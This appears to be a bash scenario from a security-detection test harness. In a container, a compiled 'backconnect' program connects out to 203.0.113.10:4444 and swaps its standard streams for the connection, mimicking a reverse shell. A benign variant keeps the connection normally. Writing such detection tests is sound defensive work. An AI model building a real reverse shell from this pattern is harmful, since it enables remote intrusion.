#!/usr/bin/env bash
# A program connects out and puts the connection in place of its standard streams, as a reverse shell
# does, and then becomes `true` where a real one would become a shell.
. "$(dirname "$0")/../lib/harness.sh"

build() {
    compile backconnect "$sample/backconnect.c"
    image shop:1.4 shop 8080 backconnect
    answer 4444
}
prepare() {
    container shop shop:1.4
    link shop
}

attack() {
    docker exec shop backconnect 203.0.113.10 4444 streams
}

# The same connection, kept where a client keeps it.
benign() {
    docker exec shop backconnect 203.0.113.10 4444
    docker exec shop sh -c 'id | cat'
}

record_container shop
